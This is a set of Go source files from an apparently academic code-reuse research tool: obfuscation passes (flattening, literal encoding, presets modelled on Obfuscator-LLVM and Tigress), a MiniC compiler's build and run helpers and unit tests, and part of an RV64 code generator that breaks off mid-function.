			b.Term = mir.Term{Kind: mir.TermBr, Target: 1}
		case mir.TermJumpTable:
			// Map table targets through the state variable: the targets are
			// already original blocks; convert to their indices.
			idxs := make([]int64, len(b.Term.Targets))
			for i, t := range b.Term.Targets {
				idxs[i] = int64(t - shift)
			}
			// state = idxs[Index]: build a small in-code table via arithmetic
			// is complex; keep the nested jump table (it will dispatch to
			// blocks that are themselves flattened participants).
			_ = idxs
		}
	}

	f.Blocks = append([]*mir.Block{entry, dispatch}, orig...)
}

func constV(f *mir.Func, b *mir.Block, v int64) mir.VReg {
	d := f.NewVReg()
	b.Instrs = append(b.Instrs, mir.Instr{Kind: mir.InstConst, Dst: d, Val: v})
	return d
}

func setState(f *mir.Func, b *mir.Block, v mir.VReg) {
	stateIdx := -1
	for i, l := range f.Locals {
		if l.Name == "__state" {
			stateIdx = i
		}
	}
	a := f.NewVReg()
	b.Instrs = append(b.Instrs,
		mir.Instr{Kind: mir.InstAddrLocal, Dst: a, Local: stateIdx},
		mir.Instr{Kind: mir.InstStore, A: a, B: v, Size: 8},
	)
}

func remapTargets(b *mir.Block, shift int) {
	switch b.Term.Kind {
	case mir.TermBr:
		b.Term.Target += shift
	case mir.TermCondBr:
		b.Term.Target += shift
		b.Term.Else += shift
	case mir.TermJumpTable:
		for i := range b.Term.Targets {
			b.Term.Targets[i] += shift
		}
	}
}

// EncodeLiterals replaces integer constants with affine-encoded values
// decoded at run time (paper Section II-A (6)): for odd a,
// K == (K*a + b - b) * a^-1 (mod 2^64).
type EncodeLiterals struct{}

// Name implements Pass.
func (*EncodeLiterals) Name() string { return "enc" }

// Apply implements Pass.
func (*EncodeLiterals) Apply(m *mir.Module, rng *rand.Rand) error {
	for _, f := range m.Funcs {
		for _, b := range f.Blocks {
			var out []mir.Instr
			for _, ins := range b.Instrs {
				if ins.Kind != mir.InstConst {
					out = append(out, ins)
					continue
				}
				a := uint64(rng.Int63())<<1 | 1 // odd multiplier
				off := uint64(rng.Int63())
				enc := uint64(ins.Val)*a + off
				inv := modInverse(a)

				vEnc := f.NewVReg()
				vOff := f.NewVReg()
				vSub := f.NewVReg()
				vInv := f.NewVReg()
				out = append(out,
					mir.Instr{Kind: mir.InstConst, Dst: vEnc, Val: int64(enc)},
					mir.Instr{Kind: mir.InstConst, Dst: vOff, Val: int64(off)},
					mir.Instr{Kind: mir.InstBin, Dst: vSub, Op: mir.OpSub, A: vEnc, B: vOff},
					mir.Instr{Kind: mir.InstConst, Dst: vInv, Val: int64(inv)},
					mir.Instr{Kind: mir.InstBin, Dst: ins.Dst, Op: mir.OpMul, A: vSub, B: vInv},
				)
			}
			b.Instrs = out
		}
	}
	return nil
}

// modInverse computes a^-1 mod 2^64 for odd a (Newton iteration).
func modInverse(a uint64) uint64 {
	x := a // 3 bits correct
	for i := 0; i < 5; i++ {
		x *= 2 - a*x
	}
	return x
}
