// Package obfuscate implements the five obfuscation transformations the
// study exercises (paper Section II-A), as MIR-to-MIR passes mirroring how
// Obfuscator-LLVM transforms LLVM IR and Tigress transforms C source:
//
//   - Substitute: instruction substitution (arithmetic identities)
//   - BogusControlFlow: opaque-predicate-guarded junk blocks
//   - Flatten: control-flow flattening through a dispatch loop
//   - EncodeLiterals: affine encoding of integer constants
//   - Virtualize: translation to bytecode run by an emitted interpreter
//
// The LLVMObf and Tigress presets reproduce the two obfuscators' pass
// stacks. All passes are deterministic given the seed.
package obfuscate

import (
	"fmt"
	"math/rand"
	"strings"

	"github.com/nofreelunch/gadget-planner/internal/mir"
)

// Pass is one obfuscating transformation.
type Pass interface {
	// Name identifies the pass in reports ("sub", "bcf", "fla", ...).
	Name() string
	// Apply transforms the module in place.
	Apply(m *mir.Module, rng *rand.Rand) error
}

// Apply runs passes in order with a deterministic stream per pass.
func Apply(m *mir.Module, seed int64, passes ...Pass) error {
	rng := rand.New(rand.NewSource(seed))
	for _, p := range passes {
		if err := p.Apply(m, rng); err != nil {
			return fmt.Errorf("obfuscate: %s: %w", p.Name(), err)
		}
		for _, f := range m.Funcs {
			if err := mir.Verify(f); err != nil {
				return fmt.Errorf("obfuscate: %s broke %s: %w", p.Name(), f.Name, err)
			}
		}
	}
	return nil
}

// LLVMObf returns the Obfuscator-LLVM preset: instruction substitution,
// bogus control flow, control-flow flattening.
func LLVMObf() []Pass {
	return []Pass{
		&Substitute{Rounds: 1},
		&BogusControlFlow{Prob: 0.5},
		&Flatten{},
	}
}

// Tigress returns the Tigress preset: literal encoding, substitution,
// bogus control flow, and virtualization of every function.
func Tigress() []Pass {
	return []Pass{
		&EncodeLiterals{},
		&Substitute{Rounds: 1},
		&Virtualize{},
		&BogusControlFlow{Prob: 0.3},
	}
}

// ByName resolves a pass by its short name.
func ByName(name string) (Pass, error) {
	switch name {
	case "sub":
		return &Substitute{Rounds: 1}, nil
	case "bcf":
		return &BogusControlFlow{Prob: 0.5}, nil
	case "fla":
		return &Flatten{}, nil
	case "enc":
		return &EncodeLiterals{}, nil
	case "virt":
		return &Virtualize{}, nil
	}
	return nil, fmt.Errorf("obfuscate: unknown pass %q", name)
}

// AllPassNames lists the individual pass names (Fig. 5's x-axis).
func AllPassNames() []string { return []string{"sub", "bcf", "fla", "enc", "virt"} }

// ParseSpec resolves an obfuscation spec as the CLIs and the analysis
// service accept it: empty (no obfuscation), the "llvm" or "tigress"
// presets, or a comma-separated pass list ("sub,bcf,fla,enc,virt").
func ParseSpec(spec string) ([]Pass, error) {
	switch spec {
	case "":
		return nil, nil
	case "llvm":
		return LLVMObf(), nil
	case "tigress":
		return Tigress(), nil
	}
	var out []Pass
	for _, name := range strings.Split(spec, ",") {
		p, err := ByName(strings.TrimSpace(name))
		if err != nil {
			return nil, err
		}
		out = append(out, p)
	}
	return out, nil
}

// junkGlobal ensures a scratch global for opaque predicates and junk code,
// returning its name.
func junkGlobal(m *mir.Module) string {
	const name = "__obf_junk"
	if !m.HasGlobal(name) {
		m.AddGlobal(mir.GlobalData{Name: name, Size: 64})
	}
	return name
}
