package codegen

import (
	"fmt"

	"github.com/nofreelunch/gadget-planner/internal/emu"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/minic"
	"github.com/nofreelunch/gadget-planner/internal/mir"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// BuildProgram compiles MiniC source (with the runtime prelude prepended)
// into an executable binary. The optional transform hook runs between
// lowering and code generation — it is where obfuscation passes plug in.
func BuildProgram(src string, transform func(*mir.Module) error, opts Options) (*sbf.Binary, error) {
	prog, err := minic.Parse(RuntimePrelude + "\n" + src)
	if err != nil {
		return nil, err
	}
	mod, err := mir.Lower(prog)
	if err != nil {
		return nil, err
	}
	if transform != nil {
		if err := transform(mod); err != nil {
			return nil, fmt.Errorf("codegen: transform: %w", err)
		}
	}
	return Compile(mod, opts)
}

// RunResult is the outcome of executing a binary in the emulator.
type RunResult struct {
	Stdout   string
	ExitCode uint64
	Steps    uint64
}

// Run executes a compiled binary in the emulator until exit.
func Run(bin *sbf.Binary, stdin []byte, maxSteps uint64) (*RunResult, error) {
	if maxSteps == 0 {
		maxSteps = 120_000_000
	}
	be, ok := isa.ByName(bin.ISA)
	if !ok {
		return nil, fmt.Errorf("codegen: run: unknown ISA %q", bin.ISA)
	}
	m := emu.NewMachineISA(be)
	os := emu.NewOS()
	os.Stdin.Reset(stdin)
	m.OS = os
	m.Mem.LoadBinary(bin)
	// Virtualized/obfuscated frames can be tens of KB; give deep recursion
	// room.
	m.SetupStack(0x7FC0_0000, 0x400000)
	m.RIP = bin.Entry
	if err := m.Run(maxSteps); err != nil {
		return nil, fmt.Errorf("codegen: run: %w (after %d steps, rip=%#x)", err, m.Steps, m.RIP)
	}
	return &RunResult{Stdout: os.Stdout.String(), ExitCode: os.ExitCode, Steps: m.Steps}, nil
}
