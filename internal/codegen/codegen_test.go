package codegen

import (
	"strings"
	"testing"
)

// compileRun builds and executes MiniC source, returning stdout and exit.
func compileRun(t *testing.T, src string) (string, uint64) {
	t.Helper()
	bin, err := BuildProgram(src, nil, Options{})
	if err != nil {
		t.Fatalf("build: %v", err)
	}
	res, err := Run(bin, nil, 0)
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	return res.Stdout, res.ExitCode
}

func TestHelloWorld(t *testing.T) {
	out, code := compileRun(t, `
int main() {
    print_str("hello, world\n");
    return 0;
}`)
	if out != "hello, world\n" || code != 0 {
		t.Errorf("out=%q code=%d", out, code)
	}
}

func TestArithmetic(t *testing.T) {
	out, _ := compileRun(t, `
int main() {
    print_int(2 + 3 * 4);      // 14
    print_char('\n');
    print_int((2 + 3) * 4);    // 20
    print_char('\n');
    print_int(-17 / 5);        // -3 (C truncation)
    print_char('\n');
    print_int(-17 % 5);        // -2
    print_char('\n');
    print_int(1 << 10);        // 1024
    print_char('\n');
    print_int(255 & 0x0F);     // 15
    print_char('\n');
    print_int(5 ^ 3);          // 6
    print_char('\n');
    print_int(~0);             // -1
    print_char('\n');
    print_int(-8 >> 1);        // -4 (arithmetic shift)
    print_char('\n');
    return 0;
}`)
	want := "14\n20\n-3\n-2\n1024\n15\n6\n-1\n-4\n"
	if out != want {
		t.Errorf("out = %q, want %q", out, want)
	}
}

func TestControlFlow(t *testing.T) {
	out, _ := compileRun(t, `
int main() {
    int i;
    int sum = 0;
    for (i = 1; i <= 10; i++) {
        if (i % 2 == 0) continue;
        sum += i;
        if (i > 8) break;
    }
    print_int(sum); // 1+3+5+7+9 = 25
    print_char('\n');
    int n = 0;
    while (n < 5) n++;
    print_int(n);
    print_char('\n');
    return 0;
}`)
	if out != "25\n5\n" {
		t.Errorf("out = %q", out)
	}
}

func TestRecursion(t *testing.T) {
	out, code := compileRun(t, `
int fact(int n) {
    if (n <= 1) return 1;
    return n * fact(n - 1);
}
int fib(int n) {
    if (n < 2) return n;
    return fib(n - 1) + fib(n - 2);
}
int main() {
    print_int(fact(10));
    print_char('\n');
    print_int(fib(15));
    print_char('\n');
    return fact(5);
}`)
	if out != "3628800\n610\n" || code != 120 {
		t.Errorf("out=%q code=%d", out, code)
	}
}

func TestArraysAndPointers(t *testing.T) {
	out, _ := compileRun(t, `
int g[8];
char msg[] = "abc";
int main() {
    int i;
    for (i = 0; i < 8; i++) g[i] = i * i;
    int sum = 0;
    for (i = 0; i < 8; i++) sum += g[i];
    print_int(sum); // 140
    print_char('\n');

    int local[4];
    int *p = &local[0];
    *p = 7;
    p[1] = 8;
    *(p + 2) = 9;
    p[3] = p[0] + p[1] + p[2];
    print_int(local[3]); // 24
    print_char('\n');

    print_str(msg);
    print_char('\n');
    msg[1] = 'X';
    print_str(&msg[0]);
    print_char('\n');
    return 0;
}`)
	want := "140\n24\nabc\naXc\n"
	if out != want {
		t.Errorf("out = %q, want %q", out, want)
	}
}

func TestStringsAndChars(t *testing.T) {
	out, _ := compileRun(t, `
int strlen(char *s) {
    int n = 0;
    while (s[n]) n++;
    return n;
}
int main() {
    char buf[16];
    char *src = "gadget";
    int i = 0;
    while (src[i]) {
        buf[i] = src[i] - 'a' + 'A';
        i++;
    }
    buf[i] = 0;
    print_str(buf);
    print_char('\n');
    print_int(strlen("planner"));
    print_char('\n');
    return 0;
}`)
	if out != "GADGET\n7\n" {
		t.Errorf("out = %q", out)
	}
}

func TestShortCircuit(t *testing.T) {
	out, _ := compileRun(t, `
int calls = 0;
int bump(int v) { calls++; return v; }
int main() {
    if (0 && bump(1)) print_str("no");
    print_int(calls); // 0
    if (1 || bump(1)) calls = calls;
    print_int(calls); // still 0
    if (1 && bump(1)) print_int(calls); // 1
    if (0 || bump(0)) print_str("no");
    print_int(calls); // 2
    print_char('\n');
    return 0;
}`)
	if out != "0012\n" {
		t.Errorf("out = %q", out)
	}
}

func TestGlobalsInitialized(t *testing.T) {
	out, _ := compileRun(t, `
int answer = 42;
int table[4] = {10, 20, 30, 40};
int neg = -7;
int main() {
    print_int(answer);
    print_char(' ');
    print_int(table[0] + table[1] + table[2] + table[3]);
    print_char(' ');
    print_int(neg);
    print_char('\n');
    return 0;
}`)
	if out != "42 100 -7\n" {
		t.Errorf("out = %q", out)
	}
}

func TestFunctionArgs(t *testing.T) {
	out, _ := compileRun(t, `
int sum6(int a, int b, int c, int d, int e, int f) {
    return a + 2*b + 3*c + 4*d + 5*e + 6*f;
}
int main() {
    print_int(sum6(1, 2, 3, 4, 5, 6)); // 1+4+9+16+25+36 = 91
    print_char('\n');
    return 0;
}`)
	if out != "91\n" {
		t.Errorf("out = %q", out)
	}
}

func TestComparisonOperators(t *testing.T) {
	out, _ := compileRun(t, `
int main() {
    print_int(3 < 5);
    print_int(5 < 3);
    print_int(-1 < 1);
    print_int(3 <= 3);
    print_int(4 > 9);
    print_int(9 >= 9);
    print_int(2 == 2);
    print_int(2 != 2);
    print_int(!5);
    print_int(!0);
    print_char('\n');
    return 0;
}`)
	if out != "1011011001\n" {
		t.Errorf("out = %q", out)
	}
}

func TestExitBuiltin(t *testing.T) {
	_, code := compileRun(t, `
int main() {
    exit(33);
    print_str("unreachable");
    return 0;
}`)
	if code != 33 {
		t.Errorf("code = %d", code)
	}
}

func TestSizeof(t *testing.T) {
	out, _ := compileRun(t, `
int main() {
    print_int(sizeof(int));
    print_int(sizeof(char));
    print_int(sizeof(int*));
    print_char('\n');
    return 0;
}`)
	if out != "818\n" {
		t.Errorf("out = %q", out)
	}
}

func TestParseErrors(t *testing.T) {
	cases := []string{
		"int main( { return 0; }",
		"int main() { return 0 }",
		"int main() { int 3x; }",
		"int main() { undefined_fn(); }",
		"int main() { x = 1; }",
		"int main() { break; }",
		"void nomain() {}",
	}
	for _, src := range cases {
		if _, err := BuildProgram(src, nil, Options{}); err == nil {
			t.Errorf("BuildProgram(%q) succeeded, want error", src)
		}
	}
}

func TestNestedLoops(t *testing.T) {
	out, _ := compileRun(t, `
int main() {
    int total = 0;
    int i;
    int j;
    for (i = 0; i < 5; i++) {
        for (j = 0; j < 5; j++) {
            if (j > i) break;
            total += i * j;
        }
    }
    print_int(total); // sum over i of i * (0+..+i) = 0+1+6+18+40 = 65... compute: i=1:1*1=1; i=2:2*(1+2)=6; i=3:3*6=18; i=4:4*10=40 => 65
    print_char('\n');
    return 0;
}`)
	if !strings.HasPrefix(out, "65\n") {
		t.Errorf("out = %q", out)
	}
}

func TestSymbolsExported(t *testing.T) {
	bin, err := BuildProgram("int main() { return 0; }", nil, Options{})
	if err != nil {
		t.Fatal(err)
	}
	for _, sym := range []string{"_start", "main", "print_int", "__write"} {
		if _, ok := bin.Symbol(sym); !ok {
			t.Errorf("symbol %q missing", sym)
		}
	}
	if bin.Section(".text") == nil || bin.Section(".data") == nil {
		t.Error("missing sections")
	}
}
