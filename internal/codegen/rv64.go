package codegen

// RV64 code generation: the same spill-everything strategy as the x86-64
// emitter (every virtual register and local lives in a frame slot), lowered
// onto the RV64 base ISA plus the M extension. Frames are s0-anchored —
// prologue saves ra/s0 above the frame, epilogue restores through sp — and
// every conditional branch is emitted in the range-safe inverted-skip form
// (bCC' +8; jal target), so layout never needs branch relaxation.
//
// Syscall numbers follow the x86-64 Linux numbering on this backend too:
// the emulated OS model is ISA-independent, so MiniC programs and attack
// goals mean the same thing on every backend.

import (
	"fmt"

	"github.com/nofreelunch/gadget-planner/internal/asm"
	"github.com/nofreelunch/gadget-planner/internal/isa"
	"github.com/nofreelunch/gadget-planner/internal/mir"
	"github.com/nofreelunch/gadget-planner/internal/sbf"
)

// RV64 register roles for the spill-everything generator.
var (
	rvArgRegs = []isa.Reg{isa.RVA0, isa.RVA1, isa.RVA2, isa.RVA3, isa.RVA4, isa.RVA5}
)

func rvReg(r isa.Reg) isa.Operand { return isa.RegOp(r) }
func rvImm(v int64) isa.Operand   { return isa.ImmOp(v) }
func rvMem(base isa.Reg, disp int32) isa.Operand {
	return isa.Operand{Kind: isa.KindMem, Mem: isa.Mem{Base: base, HasBase: true, Disp: disp}}
}

// compileRV64 lowers a MIR module onto RV64.
func compileRV64(m *mir.Module, opts Options, isaName string) (*sbf.Binary, error) {
	extern := make(map[string]uint64, len(m.Globals))
	var data []byte
	for _, g := range m.Globals {
		addr := opts.DataBase + uint64(len(data))
		extern[g.Name] = addr
		buf := make([]byte, (g.Size+7)&^7)
		copy(buf, g.Init)
		data = append(data, buf...)
	}
	if len(data) == 0 {
		data = make([]byte, 8)
	}

	p := &asm.RVProg{}
	rvEmitStart(p)
	rvEmitBuiltins(p)
	cg := &rvFuncGen{p: p}
	for _, f := range m.Funcs {
		if err := cg.emitFunc(f); err != nil {
			return nil, err
		}
	}

	res, err := p.Assemble(opts.TextBase, extern)
	if err != nil {
		return nil, fmt.Errorf("codegen: %w", err)
	}
	entry, ok := res.Labels["_start"]
	if !ok {
		return nil, fmt.Errorf("codegen: no _start")
	}

	bin := sbf.New()
	bin.Entry = entry
	bin.ISA = isaName
	bin.AddSection(sbf.Section{
		Name: ".text", Addr: opts.TextBase,
		Flags: sbf.FlagRead | sbf.FlagExec, Data: res.Code,
	})
	bin.AddSection(sbf.Section{
		Name: ".data", Addr: opts.DataBase,
		Flags: sbf.FlagRead | sbf.FlagWrite, Data: data,
	})
	for name, addr := range res.Labels {
		bin.Symbols[name] = addr
	}
	for name, addr := range extern {
		bin.Symbols[name] = addr
	}
	return bin, nil
}

// rvEmitStart writes the entry point: call main, exit(60) with its result.
func rvEmitStart(p *asm.RVProg) {
	p.Label("_start")
	p.InstRef(isa.Inst{Op: isa.OpCall, A: rvImm(0)}, "main") // jal ra, main
	p.Inst(isa.Inst{Op: isa.OpMov, Size: 8, A: rvReg(isa.RVA7), B: rvImm(60)})
	p.Inst(isa.Inst{Op: isa.OpSyscall})
}

// rvEmitBuiltins writes the generic syscall wrapper: the MiniC-level
// __syscall(num, a, b, ...) arrives with the number in a0 and arguments in
// a1..a5; shift everything into the kernel convention (number in a7,
// arguments in a0..a4) and trap.
func rvEmitBuiltins(p *asm.RVProg) {
	p.Label("__syscall")
	mv := func(dst, src isa.Reg) {
		p.Inst(isa.Inst{Op: isa.OpMov, Size: 8, A: rvReg(dst), B: rvReg(src)})
	}
	mv(isa.RVA7, isa.RVA0)
	mv(isa.RVA0, isa.RVA1)
	mv(isa.RVA1, isa.RVA2)
	mv(isa.RVA2, isa.RVA3)
	mv(isa.RVA3, isa.RVA4)
	mv(isa.RVA4, isa.RVA5)
	p.Inst(isa.Inst{Op: isa.OpSyscall})
	p.Inst(isa.Inst{Op: isa.OpRet})
}

// rvFuncGen emits one function onto the program.
type rvFuncGen struct {
	p *asm.RVProg
	f *mir.Func

	frameSize int
	localOff  []int // offset below s0 of each local slot
	vregBase  int
	nextTable int
	tables    []func() // jump-table emission deferred to after the body
}

func (cg *rvFuncGen) blockLabel(id int) string {
	return fmt.Sprintf("%s_b%d", cg.f.Name, id)
}

func (cg *rvFuncGen) vslot(v mir.VReg) int { return cg.vregBase + 8*(int(v)+1) }

func (cg *rvFuncGen) inst(i isa.Inst)   { cg.p.Inst(i) }
func (cg *rvFuncGen) jmp(label string)  { cg.p.InstRef(isa.Inst{Op: isa.OpJmp, A: rvImm(0)}, label) }
func (cg *rvFuncGen) call(label string) { cg.p.InstRef(isa.Inst{Op: isa.OpCall, A: rvImm(0)}, label) }

// li materializes an arbitrary 64-bit constant into rd.
func (cg *rvFuncGen) li(rd isa.Reg, v int64) {
	if v >= -2048 && v < 2048 {
		cg.inst(isa.Inst{Op: isa.OpMov, Size: 8, A: rvReg(rd), B: rvImm(v)})
		return
	}
	lo := int64(int32(uint32(v)&0xFFF) << 20 >> 20) // sign-extended low 12 bits
	hi := v - lo                                    // low 12 bits all zero
	if hi >= -1<<31 && hi < 1<<31 {
		cg.inst(isa.Inst{Op: isa.OpMov, Size: 8, A: rvReg(rd), B: rvImm(hi)}) // lui
	} else {
		// Wide constant: build the upper bits recursively and shift. hi's
		// low 12 bits are zero, so hi>>12 loses nothing.
		cg.li(rd, hi>>12)
		cg.inst(isa.Inst{Op: isa.OpShl, Size: 8, A: rvReg(rd), B: rvReg(rd), C: rvImm(12)})
	}
	if lo != 0 {
		cg.inst(isa.Inst{Op: isa.OpAdd, Size: 8, A: rvReg(rd), B: rvReg(rd), C: rvImm(lo)})
	}
}

// slotAddr leaves the address of a frame slot (s0 - off) in t6 when the
// offset is out of short range; it returns the memory operand to use.
func (cg *rvFuncGen) slotMem(off int) isa.Operand {
	if off <= 2048 {
		return rvMem(isa.RVS0, int32(-off))
	}
	cg.li(isa.RVT6, int64(off))
	cg.inst(isa.Inst{Op: isa.OpSub, Size: 8, A: rvReg(isa.RVT6), B: rvReg(isa.RVS0), C: rvReg(isa.RVT6)})
	return rvMem(isa.RVT6, 0)
}

// loadV loads a vreg slot into a machine register.
func (cg *rvFuncGen) loadV(rd isa.Reg, v mir.VReg) {
	cg.inst(isa.Inst{Op: isa.OpMov, Size: 8, A: rvReg(rd), B: cg.slotMem(cg.vslot(v))})
}

// storeV stores a machine register into a vreg slot.
func (cg *rvFuncGen) storeV(v mir.VReg, rs isa.Reg) {
	cg.inst(isa.Inst{Op: isa.OpMov, Size: 8, A: cg.slotMem(cg.vslot(v)), B: rvReg(rs)})
}

func (cg *rvFuncGen) emitFunc(f *mir.Func) error {
	if err := mir.Verify(f); err != nil {
		return err
	}
	cg.f = f
	cg.tables = nil

	// Frame layout below s0: [locals][vreg slots]; ra and the caller's s0
	// are saved above s0.
	cg.localOff = make([]int, len(f.Locals))
	off := 0
	for i, l := range f.Locals {
		off += (l.Size + 7) &^ 7
		cg.localOff[i] = off
	}
	cg.vregBase = off
	cg.frameSize = (off + int(f.NumVRegs)*8 + 15) &^ 15

	p := cg.p
	p.Label(f.Name)
	// addi sp, sp, -16; sd ra, 8(sp); sd s0, 0(sp); mv s0, sp
	cg.inst(isa.Inst{Op: isa.OpAdd, Size: 8, A: rvReg(isa.RVSP), B: rvReg(isa.RVSP), C: rvImm(-16)})
	cg.inst(isa.Inst{Op: isa.OpMov, Size: 8, A: rvMem(isa.RVSP, 8), B: rvReg(isa.RVRA)})
	cg.inst(isa.Inst{Op: isa.OpMov, Size: 8, A: rvMem(isa.RVSP, 0), B: rvReg(isa.RVS0)})
	cg.inst(isa.Inst{Op: isa.OpMov, Size: 8, A: rvReg(isa.RVS0), B: rvReg(isa.RVSP)})
	if cg.frameSize > 0 {
		if cg.frameSize <= 2048 {
			cg.inst(isa.Inst{Op: isa.OpAdd, Size: 8, A: rvReg(isa.RVSP), B: rvReg(isa.RVSP), C: rvImm(int64(-cg.frameSize))})
		} else {
			cg.li(isa.RVT6, int64(cg.frameSize))
			cg.inst(isa.Inst{Op: isa.OpSub, Size: 8, A: rvReg(isa.RVSP), B: rvReg(isa.RVSP), C: rvReg(isa.RVT6)})
		}
	}
	for i := 0; i < f.NumParam; i++ {
		cg.inst(isa.Inst{Op: isa.OpMov, Size: 8, A: cg.slotMem(cg.localOff[i]), B: rvReg(rvArgRegs[i])})
	}
	cg.jmp(cg.blockLabel(0))

	for _, b := range f.Blocks {
		p.Label(cg.blockLabel(b.ID))
		for _, ins := range b.Instrs {
			if err := cg.emitInstr(ins); err != nil {
				return err
			}
		}
		if err := cg.emitTerm(b.Term); err != nil {
			return err
		}
	}
	// Jump tables live in text after the body, as on x86-64.
	for _, emit := range cg.tables {
		emit()
	}
	return nil
}

// epilogue restores the caller frame and returns; the result is in a0.
func (cg *rvFuncGen) epilogue() {
	cg.inst(isa.Inst{Op: isa.OpMov, Size: 8, A: rvReg(isa.RVSP), B: rvReg(isa.RVS0)})
	cg.inst(isa.Inst{Op: isa.OpMov, Size: 8, A: rvReg(isa.RVS0), B: rvMem(isa.RVSP, 0)})
	cg.inst(isa.Inst{Op: isa.OpMov, Size: 8, A: rvReg(isa.RVRA), B: rvMem(isa.RVSP, 8)})
	cg.inst(isa.Inst{Op: isa.OpAdd, Size: 8, A: rvReg(isa.RVSP), B: rvReg(isa.RVSP), C: rvImm(16)})
	cg.inst(isa.Inst{Op: isa.OpRet})
}

func (cg *rvFuncGen) emitInstr(ins mir.Instr) error {
	t0, t1, t2 := isa.RVT0, isa.RVT1, isa.RVT2
	switch ins.Kind {
	case mir.InstConst:
		cg.li(t0, ins.Val)
		cg.storeV(ins.Dst, t0)

	case mir.InstCopy:
		cg.loadV(t0, ins.A)
		cg.storeV(ins.Dst, t0)

	case mir.InstNeg:
		cg.loadV(t0, ins.A)
		cg.inst(isa.Inst{Op: isa.OpSub, Size: 8, A: rvReg(t0), B: rvReg(isa.RVZero), C: rvReg(t0)})
		cg.storeV(ins.Dst, t0)

	case mir.InstNot:
		cg.loadV(t0, ins.A)
		cg.inst(isa.Inst{Op: isa.OpXor, Size: 8, A: rvReg(t0), B: rvReg(t0), C: rvImm(-1)})
		cg.storeV(ins.Dst, t0)

	case mir.InstBin:
		cg.loadV(t0, ins.A)
		cg.loadV(t1, ins.B)
		r3 := func(op isa.Op) {
			cg.inst(isa.Inst{Op: op, Size: 8, A: rvReg(t0), B: rvReg(t0), C: rvReg(t1)})
		}
		switch ins.Op {
		case mir.OpAdd:
			r3(isa.OpAdd)
		case mir.OpSub:
			r3(isa.OpSub)
		case mir.OpMul:
			r3(isa.OpImul)
		case mir.OpDiv:
			r3(isa.OpDiv)
		case mir.OpMod:
			r3(isa.OpRem)
		case mir.OpAnd:
			r3(isa.OpAnd)
		case mir.OpOr:
			r3(isa.OpOr)
		case mir.OpXor:
			r3(isa.OpXor)
		case mir.OpShl:
			r3(isa.OpShl)
		case mir.OpShr:
			r3(isa.OpSar) // MiniC >> is arithmetic, as on x86-64
		case mir.OpLT:
			r3(isa.OpSlt)
		case mir.OpULT:
			r3(isa.OpSltu)
		case mir.OpGT:
			cg.inst(isa.Inst{Op: isa.OpSlt, Size: 8, A: rvReg(t0), B: rvReg(t1), C: rvReg(t0)})
		case mir.OpLE: // !(a > b)
			cg.inst(isa.Inst{Op: isa.OpSlt, Size: 8, A: rvReg(t0), B: rvReg(t1), C: rvReg(t0)})
			cg.inst(isa.Inst{Op: isa.OpXor, Size: 8, A: rvReg(t0), B: rvReg(t0), C: rvImm(1)})
		case mir.OpGE: // !(a < b)
			r3(isa.OpSlt)
			cg.inst(isa.Inst{Op: isa.OpXor, Size: 8, A: rvReg(t0), B: rvReg(t0), C: rvImm(1)})
		case mir.OpEQ: // seqz(a - b)
			r3(isa.OpSub)
			cg.inst(isa.Inst{Op: isa.OpSltu, Size: 8, A: rvReg(t0), B: rvReg(t0), C: rvImm(1)})
		case mir.OpNE: // snez(a - b)
			r3(isa.OpSub)
			cg.inst(isa.Inst{Op: isa.OpSltu, Size: 8, A: rvReg(t0), B: rvReg(isa.RVZero), C: rvReg(t0)})
		default:
			return fmt.Errorf("codegen: unknown binop %v", ins.Op)
		}
		cg.storeV(ins.Dst, t0)

	case mir.InstLoad:
		cg.loadV(t0, ins.A)
		if ins.Size == 1 {
			cg.inst(isa.Inst{Op: isa.OpLoadU, Size: 1, A: rvReg(t0), B: rvMem(t0, 0)})
		} else {
			cg.inst(isa.Inst{Op: isa.OpMov, Size: 8, A: rvReg(t0), B: rvMem(t0, 0)})
		}
		cg.storeV(ins.Dst, t0)

	case mir.InstStore:
		cg.loadV(t2, ins.A)
		cg.loadV(t1, ins.B)
		size := uint8(8)
		if ins.Size == 1 {
			size = 1
		}
		cg.inst(isa.Inst{Op: isa.OpMov, Size: size, A: rvMem(t2, 0), B: rvReg(t1)})

	case mir.InstAddrLocal:
		off := cg.localOff[ins.Local]
		if off <= 2048 {
			cg.inst(isa.Inst{Op: isa.OpAdd, Size: 8, A: rvReg(t0), B: rvReg(isa.RVS0), C: rvImm(int64(-off))})
		} else {
			cg.li(t0, int64(off))
			cg.inst(isa.Inst{Op: isa.OpSub, Size: 8, A: rvReg(t0), B: rvReg(isa.RVS0), C: rvReg(t0)})
		}
		cg.storeV(ins.Dst, t0)

	case mir.InstAddrGlobal:
		// Global addresses are link-time constants, resolved by the
		// assembler's load-address macro.
		cg.p.La(t0, ins.Name)
		cg.storeV(ins.Dst, t0)

	case mir.InstCall:
		if len(ins.Args) > len(rvArgRegs) {
			return fmt.Errorf("codegen: too many call arguments")
		}
		for i, a := range ins.Args {
			cg.loadV(rvArgRegs[i], a)
		}
		cg.call(ins.Name)
		if ins.HasDst {
			cg.storeV(ins.Dst, isa.RVA0)
		}

	default:
		return fmt.Errorf("codegen: unknown instruction kind %d", ins.Kind)
	}
	return nil
}

func (cg *rvFuncGen) emitTerm(t mir.Term) error {
	t0 := isa.RVT0
	switch t.Kind {
	case mir.TermRet:
		if t.HasVal {
			cg.loadV(isa.RVA0, t.Val)
		} else {
			cg.inst(isa.Inst{Op: isa.OpMov, Size: 8, A: rvReg(isa.RVA0), B: rvReg(isa.RVZero)})
		}
		cg.epilogue()

	case mir.TermBr:
		cg.jmp(cg.blockLabel(t.Target))

	case mir.TermCondBr:
		cg.loadV(t0, t.Cond)
		// bne t0, x0, target; j else  — emitted range-safe: the conditional
		// branch skips the following jal when NOT taken.
		skip := fmt.Sprintf("%s_s%d", cg.blockLabel(t.Target), cg.nextTable)
		cg.nextTable++
		cg.p.InstRef(isa.Inst{Op: isa.OpBcc, Cond: isa.CondE, Size: 8,
			A: rvImm(0), B: rvReg(t0), C: rvReg(isa.RVZero)}, skip)
		cg.jmp(cg.blockLabel(t.Target))
		cg.p.Label(skip)
		cg.jmp(cg.blockLabel(t.Else))

	case mir.TermJumpTable:
		table := fmt.Sprintf("%s_jt%d", cg.f.Name, cg.nextTable)
		cg.nextTable++
		cg.loadV(t0, t.Index)
		// Clamp out-of-range indices to 0, as the x86-64 generator does.
		cg.li(isa.RVT1, int64(len(t.Targets)))
		skip := table + "_ok"
